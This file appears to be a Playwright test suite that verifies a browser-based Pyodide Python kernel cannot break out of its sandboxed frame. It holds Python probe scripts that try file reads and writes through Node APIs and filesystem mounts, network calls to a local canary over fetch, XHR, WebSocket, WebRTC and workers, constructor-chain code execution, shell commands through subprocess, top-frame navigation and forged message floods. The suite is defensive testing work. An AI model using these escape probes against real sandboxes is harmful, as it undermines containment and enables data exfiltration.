import { expect, openKernelPage, test } from './kernelFixture.ts';
import { startCanary, type Canary } from './listener.ts';

/**
 * Ways out that are known, each tried from Python as a hostile script would; what counts is not what the script is told but whether
 * anything reached the listener, the file or the page. `PORT` and `FILE` stand for the canary's.
 */
const attempt = (lines: string): string => `
import js
from pyodide.code import run_js
from pyodide.ffi import to_js
def go(name, step):
    try: print(name, repr(step())[:300])
    except BaseException as error: print(name, "->", type(error).__name__, str(error)[:100])
${lines}
`;
/** Given time to come to something: the wait is the script's own. */
const wait = '\nimport time\ntime.sleep(0.4)';

const probes: Record<string, string> = {
  'js.process': attempt(`
go("process", lambda: js.process.env)
go("binding", lambda: js.process.binding("fs"))
go("require", lambda: js.require("fs").readFileSync("FILE", "utf8"))
go("module", lambda: run_js("globalThis.process.getBuiltinModule('fs').writeFileSync('FILE', 'x')"))`),
  'mountNodeFS and loadBinaryFile': attempt(`
import pyodide_js
go("mount", lambda: pyodide_js.mountNodeFS("/host", "/"))
go("read", lambda: open("/host" + "FILE").read())
go("nodefs", lambda: pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {"root": "/"}, "/mnt"))
go("binary", lambda: pyodide_js._api.loadBinaryFile("file://FILE"))
go("http", lambda: pyodide_js._api.loadBinaryFile("http://127.0.0.1:PORT/binary"))
go("package", lambda: pyodide_js.loadPackage("http://127.0.0.1:PORT/x-1-py3-none-any.whl"))
go("open", lambda: open("FILE").read())
go("write", lambda: open("FILE", "w").write("x"))`),
  'run_js and constructor chains': attempt(`
go("import", lambda: run_js("import('http://127.0.0.1:PORT/module.js')"))
go("chain", lambda: run_js("(() => {}).constructor('return fetch(\\"http://127.0.0.1:PORT/chain\\")')()"))
go("blob", lambda: run_js("import(URL.createObjectURL(new Blob(['fetch(\\"http://127.0.0.1:PORT/blob\\")'], {type: 'text/javascript'})))"))
import time; time.sleep(0.4)`),
  ctypes: attempt(`
import ctypes
lib = ctypes.CDLL(None)
go("script", lambda: lib.emscripten_run_script(b"fetch('http://127.0.0.1:PORT/ctypes')"))
go("open", lambda: lib.open(b"FILE", 1 | 512, 0o777))
go("system", lambda: lib.system(b"echo x > FILE"))
import time; time.sleep(0.3)`),
  'js.fetch': attempt(`
for kind in ("http://127.0.0.1:PORT/fetch", "http://localhost:PORT/fetch", "file://FILE", "/api/system/info", "../index.html"):
    go(kind, lambda: js.fetch(kind))
import time; time.sleep(0.4)`),
  XMLHttpRequest: attempt(`
def xhr(synchronous):
    request = js.XMLHttpRequest.new()
    request.open("GET", "http://127.0.0.1:PORT/xhr", not synchronous)
    request.send()
    return request.responseText
go("sync", lambda: xhr(True))
go("async", lambda: xhr(False))${wait}`),
  'WebSocket, EventSource, WebTransport, sendBeacon': attempt(`
for name in ("WebSocket", "EventSource", "WebTransport", "WebSocketStream"):
    for scheme in ("ws", "wss", "http", "https"):
        go(f"{name} {scheme}", lambda: getattr(js, name).new(f"{scheme}://127.0.0.1:PORT/"))
go("beacon", lambda: js.navigator.sendBeacon("http://127.0.0.1:PORT/beacon", "x"))${wait}`),
  'workers with importScripts': attempt(`
go("import", lambda: js.importScripts("http://127.0.0.1:PORT/import.js"))
def blob(text): return js.URL.createObjectURL(js.Blob.new(to_js([text])))
for text in (
    "importScripts('http://127.0.0.1:PORT/worker.js')",
    "fetch('http://127.0.0.1:PORT/nested')",
    "new WebSocket('ws://127.0.0.1:PORT/nested')",
    "const x = new XMLHttpRequest(); x.open('GET', 'http://127.0.0.1:PORT/nested', false); x.send()",
    "new Worker('http://127.0.0.1:PORT/deeper.js')",
):
    go(text, lambda: js.Worker.new(blob(text)))
    go("imported " + text, lambda: js.importScripts(blob(text)))
go("remote", lambda: js.Worker.new("http://127.0.0.1:PORT/remote.js"))
go("data", lambda: js.Worker.new("data:text/javascript,fetch('http://127.0.0.1:PORT/data')"))
go("shared", lambda: js.SharedWorker.new("http://127.0.0.1:PORT/shared.js"))${wait}`),
  'sockets of Python': attempt(`
import socket, urllib.request, http.client, asyncio
go("tcp", lambda: socket.create_connection(("127.0.0.1", PORT), 1).sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"))
go("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)))
go("urllib", lambda: urllib.request.urlopen("http://127.0.0.1:PORT/urllib", timeout=1).read())
from pyodide.http import open_url
go("open_url", lambda: open_url("http://127.0.0.1:PORT/open"))
import time; time.sleep(0.4)`),
  'navigation of the frame, its parent and the top': attempt(`
there = "http://127.0.0.1:PORT/navigate"
for name in ("self", "globalThis", "parent", "top", "opener", "window"):
    go(name, lambda: setattr(getattr(js, name), "location", there))
    go(name + " href", lambda: setattr(getattr(js, name).location, "href", there))
go("assign", lambda: js.location.assign(there))
go("replace", lambda: js.location.replace(there))
go("open", lambda: js.open(there))
go("clients", lambda: js.clients.openWindow(there))${wait}`),
  WebRTC: attempt(`
def connect():
    servers = to_js({"iceServers": [{"urls": "stun:127.0.0.1:PORT"}]}, dict_converter=js.Object.fromEntries)
    connection = js.RTCPeerConnection.new(servers)
    connection.createDataChannel("x")
    return connection.createOffer().then(lambda offer: connection.setLocalDescription(offer))
go("offer", connect)${wait}`),
  'service workers, notifications, fonts, images': attempt(`
go("service worker", lambda: js.navigator.serviceWorker.register("http://127.0.0.1:PORT/sw.js"))
go("notification", lambda: js.Notification.new("x"))
go("font", lambda: js.FontFace.new("x", "url(http://127.0.0.1:PORT/font)").load())
go("image", lambda: js.Image.new(src="http://127.0.0.1:PORT/image"))
go("bitmap", lambda: js.createImageBitmap(js.Blob.new(to_js(["<svg xmlns='http://www.w3.org/2000/svg'><image href='http://127.0.0.1:PORT/svg'/></svg>"]))))${wait}`),
  subprocesses: attempt(`
import os, subprocess
go("run", lambda: subprocess.run(["sh", "-c", "echo x > FILE"]))
go("system", lambda: os.system("echo x > FILE"))
go("exec", lambda: os.execv("/bin/sh", ["sh", "-c", "echo x > FILE"]))`),
};

let canary: Canary;
test.beforeAll(async () => {
  canary = await startCanary();
});
test.afterAll(async () => {
  expect(await canary.effects()).toEqual([]);
  await canary.close();
});

for (const [name, source] of Object.entries(probes)) {
  test(`${name}: no effect`, async ({ kernel }) => {
    const foreign: string[] = [];
    const own = new URL(kernel.page.url()).origin;
    kernel.page.on('request', (request) => {
      const url = new URL(request.url());
      if (url.origin === own && !/^\/(runner|python)\//.test(url.pathname)) foreign.push(request.url());
    });
    const url = kernel.page.url();
    const pages = kernel.page.context().pages().length;
    const run = await kernel.run(source.replaceAll('PORT', String(canary.port)).replaceAll('FILE', canary.file));
    // The attempt was made, and not stopped by a mistake of the probe itself.
    expect(run.error).toBeNull();
    expect(run.text).not.toBe('');
    expect(run.text).not.toContain(canary.secret);
    expect(await canary.effects()).toEqual([]);
    expect(foreign).toEqual([]);
    expect(kernel.page.url()).toBe(url);
    expect(kernel.page.context().pages().length).toBe(pages);
    // The window is as it was, and so is Python.
    expect((await kernel.run('print("alive")')).text).toContain('alive\n');
  });
}

test('the probes themselves work: outside the frame the same attempts reach the canary', async () => {
  const own = await startCanary();
  // It answers nothing: the attempt lasts until it has been seen.
  const seen = new AbortController();
  const attempted = fetch(`http://127.0.0.1:${own.port}/`, { signal: seen.signal }).catch(() => undefined);
  await expect.poll(() => own.effects()).not.toEqual([]);
  seen.abort();
  await attempted;
  await own.close();
});

test('IndexedDB, Cache and OPFS keep nothing, neither for the window nor for the next interpreter', async ({ kernel }) => {
  // What is refused at once raises; what is promised is refused later, which `tell` notes for the next execution to read.
  const source = `
import js
from pyodide.ffi import create_proxy
told = []
def go(name, step):
    try: step(name)
    except BaseException as error: told.append(name + " refused")
def promise(step):
    def run(name): step().then(create_proxy(lambda _: told.append(name + " done")), create_proxy(lambda _: told.append(name + " refused")))
    return run
def database(name):
    request = js.indexedDB.open("canary", 1)
    request.onsuccess = create_proxy(lambda _: told.append(name + " done"))
    request.onerror = create_proxy(lambda _: told.append(name + " refused"))
go("indexedDB", database)
go("caches", promise(lambda: js.caches.open("canary")))
go("opfs", promise(lambda: js.navigator.storage.getDirectory()))`;
  await kernel.run(source);
  await expect.poll(async () => (await kernel.run('print(sorted(told))')).text).toBe("['caches refused', 'indexedDB refused', 'opfs refused']\n");
  const kept = await kernel.page.evaluate(async () => [(await indexedDB.databases()).length, (await caches.keys()).length]);
  expect(kept).toEqual([0, 0]);
});

test('BroadcastChannel does not reach the window', async ({ kernel }) => {
  await kernel.page.evaluate(() => {
    const heard: unknown[] = [];
    new BroadcastChannel('canary').onmessage = (event) => heard.push(event.data);
    Object.assign(globalThis, { heard });
  });
  await kernel.run('import js\nchannel = js.BroadcastChannel.new("canary")\nchannel.postMessage("hello")');
  await kernel.run('1');
  expect(await kernel.page.evaluate(() => Reflect.get(globalThis, 'heard'))).toEqual([]);
});

test('forged messages change no run: neither its own end nor that of another tab', async ({ kernel }) => {
  const forged = `
import js, sys
from pyodide.ffi import create_proxy, to_js
def message(**fields): return to_js(fields, dict_converter=js.Object.fromEntries)
end = dict(status="succeeded", exitCode=0, durationMs=0, peakMemoryBytes=None, kernelLost=False)
for forged in (
    message(type="finished", exitCode=0, interrupted=False, durationMs=0, memoryBytes=0),
    message(type="finished", end=end),
    message(type="ready", pythonVersion="9.9.9", pyodideVersion="9", memoryBytes=1, startMs=1, startedFrom="load"),
    message(type="text", stream="stdout", bytes=js.Uint8Array.new(4)),
    message(type="output", json='{"type": "error", "name": "Fake", "message": "", "traceback": "", "frames": []}'),
    message(type="lost", reason="fake"), message(type="nonsense"), None, "x" * 10**6,
):
    js.postMessage(forged)
    js.dispatchEvent(js.MessageEvent.new("message", message(data=forged)))
# To catch the port that our own messages leave by.
caught = []
for kind in (js.MessagePort, js.EventTarget, js.DedicatedWorkerGlobalScope):
    kind.prototype.postMessage = create_proxy(lambda *all: caught.append(all))
print("honest", flush=True)
print("caught", len(caught))
sys.exit(9)`;
  const run = await kernel.run({ tab: 'forger', source: forged });
  expect(run.text).toBe('honest\ncaught 0\n');
  expect(run.end).toMatchObject({ status: 'failed', exitCode: 9 });
  expect(run.state).toMatchObject({ pythonVersion: '3.14.2' });
  const other = await kernel.run({ tab: 'victim', source: 'print("mine")' });
  expect(other.text).toBe('mine\n');
});

test('a flood of forged messages neither fills the window nor stops it', async ({ kernel }) => {
  test.setTimeout(120_000);
  const run = await kernel.run({
    source: 'import js, signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nprint("begun", flush=True)\nwhile True: js.postMessage("x" * 1000)',
    stopAt: 'begun',
  });
  expect(run.end).toMatchObject({ status: 'stopped', kernelLost: true });
  expect((await kernel.run('print("alive")')).text).toBe('alive\n');
});

test("the frame is alone in its origin: it reaches neither the window's document nor its storage", async ({ kernel, page, server, script }) => {
  await kernel.run('1');
  const frame = page.frames().find((candidate) => candidate.url().includes('/runner/'));
  const reached = await frame?.evaluate(() => {
    const attempts: Record<string, () => unknown> = {
      document: () => parent.document.title,
      cookie: () => document.cookie,
      storage: () => localStorage.length,
      navigate: () => {
        if (top !== null) top.location.href = 'about:blank';
      },
    };
    return Object.entries(attempts).flatMap(([name, step]) => {
      try {
        step();
        return [name];
      } catch {
        return [];
      }
    });
  });
  expect(reached).toEqual([]);
  expect(await frame?.evaluate(() => [origin, crossOriginIsolated])).toEqual(['null', true]);
  expect(page.url()).toContain('/kernel-test.html');
  // And nobody but the window that holds it is heard: a message from elsewhere makes no kernel.
  const second = await openKernelPage(await page.context().newPage(), server.origin, script);
  expect((await second.run('print("own")')).text).toBe('own\n');
});
